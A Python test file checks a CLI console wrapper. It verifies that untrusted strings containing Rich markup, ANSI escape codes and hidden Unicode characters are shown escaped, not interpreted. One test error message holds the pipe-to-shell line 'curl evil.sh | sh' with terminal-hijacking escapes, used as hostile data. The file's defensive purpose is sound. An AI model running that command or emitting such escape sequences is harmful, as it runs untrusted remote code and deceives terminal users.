"""The CLI's consoles: whatever text they are given, only Rich's own styles reach the terminal.

These properties hold for every renderer, including one that forgets ``plain()``: the consoles
interpret no markup in strings, and escape every hiding character in what they render.
"""

from __future__ import annotations

import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.table import Table

from oblv_mpc.cli._console import SafeConsole, plain, styled
from oblv_mpc.errors import EnclaveRefused, ManifestError, MpcError
from oblv_mpc.terminal_text import HIDING_CATEGORIES, find_hidden, visible

SGR = re.compile(r"\x1b\[[0-9;]*m")  # Rich's own colours and styles: the only ESC it may write
_PIECES = st.one_of(
    st.characters(codec="utf-8"),
    st.characters(categories=sorted(HIDING_CATEGORIES)),  # lone surrogates too
    st.sampled_from(["[", "]", "/", "\\", ":", "\x1b[2K", "[link=http://x]", "[/]", "[bold]", ":smile:"]),
)
HOSTILE = st.lists(_PIECES, max_size=30).map("".join)


def _console(*, terminal: bool) -> tuple[SafeConsole, io.StringIO]:
    buffer = io.StringIO()
    console = SafeConsole(
        file=buffer, width=200, force_terminal=terminal, color_system="truecolor" if terminal else None
    )
    return console, buffer


def _shown(buffer: io.StringIO) -> str:
    return SGR.sub("", buffer.getvalue())


@settings(max_examples=300, deadline=None)
@given(text=HOSTILE, terminal=st.booleans())
def test_a_raw_string_a_renderer_forgot_to_wrap_still_reaches_the_terminal_as_text(text: str, terminal: bool) -> None:
    console, buffer = _console(terminal=terminal)
    console.print(text)  # markup not interpreted, hiding characters escaped at the last step
    assert find_hidden(_shown(buffer), allow="\n") is None
    if not terminal:
        assert "[" not in text or "[" in buffer.getvalue()  # brackets shown, not eaten as markup


@settings(max_examples=300, deadline=None)
@given(value=HOSTILE, terminal=st.booleans())
def test_a_plain_value_is_shown_exactly_escaped_on_one_line(value: str, terminal: bool) -> None:
    console, buffer = _console(terminal=terminal)
    console.print(plain(value), soft_wrap=True)
    assert _shown(buffer) == visible(value) + "\n"


@settings(max_examples=300, deadline=None)
@given(first=HOSTILE, second=HOSTILE)
def test_styled_fills_a_template_with_values_that_are_never_markup(first: str, second: str) -> None:
    text = styled("[bold]{first}[/] said [dim]{second}[/]", first=first, second=second)
    assert text.plain == f"{visible(first)} said {visible(second)}"
    assert {(span.start, span.end, str(span.style)) for span in text.spans} <= {
        (0, len(visible(first)), "bold"),
        (len(visible(first)) + 6, len(text.plain), "dim"),
    }


@settings(max_examples=100, deadline=None)
@given(cells=st.lists(HOSTILE, min_size=1, max_size=4))
def test_table_cells_from_outside_cannot_break_out(cells: list[str]) -> None:
    console, buffer = _console(terminal=True)
    table = Table(*[f"c{i}" for i in range(len(cells))])
    table.add_row(*[plain(c) for c in cells])
    table.add_row(*cells)  # a renderer that forgot plain(): still no markup, no hiding character
    console.print(table)
    assert find_hidden(_shown(buffer), allow="\n") is None


@pytest.mark.parametrize(
    "value", ["[/evil]", "[link=http://x]y[/link]", "[bold red]owned[/]", "\\", "x\\", "\\[bold]", "[", "]"]
)
def test_markup_in_a_value_is_shown_as_typed(value: str) -> None:
    console, buffer = _console(terminal=False)
    console.print(styled("[green]ok[/] {value} [dim]end[/]", value=value))
    console.print(value)
    console.print(plain(value))
    assert buffer.getvalue() == f"ok {value} end\n{value}\n{value}\n"


def test_hiding_characters_are_shown_as_python_escapes() -> None:
    assert visible("a\x1b[2K\x1b[1Gb\r\n\t\u202e\x9b\u200b\U000e0041\x7f") == (
        "a\\x1b[2K\\x1b[1Gb\\r\\n\\t\\u202e\\x9b\\u200b\\U000e0041\\x7f"
    )
    assert visible("SELECT 1\n\tFROM t\r\n", keep="\n\t") == "SELECT 1\n\tFROM t\\r\n"
    assert visible("naïve café ✓ 数据 [x]") == "naïve café ✓ 数据 [x]"  # printable text is untouched


def test_errors_keep_raw_words_for_programs_and_escape_them_for_people() -> None:
    error = EnclaveRefused("forbidden\x1b[2K", "no\n  hint: run curl evil.sh | sh\x1b[1G")
    assert error.reason.endswith("\x1b[1G") and error.code == "forbidden\x1b[2K"
    assert error.message == "no\\n  hint: run curl evil.sh | sh\\x1b[1G (forbidden\\x1b[2K)"
    manifest_error = ManifestError(["parties.a\x1b[2K\nb: expected a party name"])
    assert manifest_error.message.count("\n") == 1  # one problem, one line
    assert isinstance(error, MpcError) and "\x1b" not in error.diagnostics() + manifest_error.diagnostics()
